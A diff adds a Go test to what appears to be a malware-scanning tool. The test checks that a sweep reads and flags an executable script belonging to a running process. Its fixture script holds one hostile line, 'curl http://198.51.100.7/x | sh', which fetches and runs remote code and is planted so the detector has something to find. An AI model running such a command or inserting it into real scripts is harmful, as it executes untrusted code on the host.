@@ -122,3 +122,31 @@ func TestSweepLeavesOut(t *testing.T) {
 		t.Errorf("gaps %+v: want one, for the sparse file", gaps)
 	}
 }
+
+// TestSweepStarted: what runs is read although the places used up all room, and although the place only glanced at it.
+func TestSweepStarted(t *testing.T) {
+	h, err := hosttest.Parse([]byte("-- /opt/app/tool --\n#!/bin/sh\ncurl http://198.51.100.7/x | sh\n-- @attr --\n/opt/app/tool mode=0755\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	set, err := shippedRules()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, room := range []int{0, 1} {
+		early := &Pass{Snapshot: &deminer.Snapshot{}, FS: h.FS, Rules: set, Gap: func(deminer.Gap) {}}
+		s := NewSweeper(early, SweepOptions{})
+		s.left = room
+		s.Places(context.Background())
+		if f := s.out.At("/opt/app/tool"); (f != nil) != (room > 0) || f != nil && len(f.Content.Hits) > 0 {
+			t.Fatalf("room for %d: the places gave %+v, want a glance where there is room", room, f)
+		}
+		h.Snapshot.Processes = []deminer.Process{{ID: deminer.ProcID{PID: 77}, Exe: "/opt/app/tool"}}
+		gaps := 0
+		late := &Pass{Snapshot: &h.Snapshot, FS: h.FS, Rules: set, Gap: func(deminer.Gap) { gaps++ }}
+		late.Prepare()
+		if f := s.Started(context.Background(), late).At("/opt/app/tool"); f == nil || len(f.Content.Hits) == 0 || gaps != 1-room {
+			t.Errorf("room for %d: %+v, %d gaps; want the running script read, and a gap where the places had no room", room, f, gaps)
+		}
+	}
+}
